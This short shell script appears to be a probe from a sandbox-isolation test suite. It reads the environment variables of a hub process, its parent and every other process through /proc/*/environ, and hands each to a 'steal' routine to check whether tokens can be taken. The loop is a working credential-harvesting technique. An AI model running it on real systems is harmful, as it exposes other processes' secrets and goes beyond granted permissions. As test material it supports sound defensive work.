# Reads the environment of the hub, of its parents and of every other process from /proc.
# Why: tokens are mostly kept in environment variables, and a scrubbed one helps nothing if the original can be read.
# needs: any
# at-none: escapes
. "$(dirname "$0")/attempt.sh"
for process in "$hubPid" "$PPID" /proc/[0-9]*; do
  steal "$process" < <(tr '\0' '\n' <"/proc/${process#/proc/}/environ")
done
held 'no environment has anything of worth'
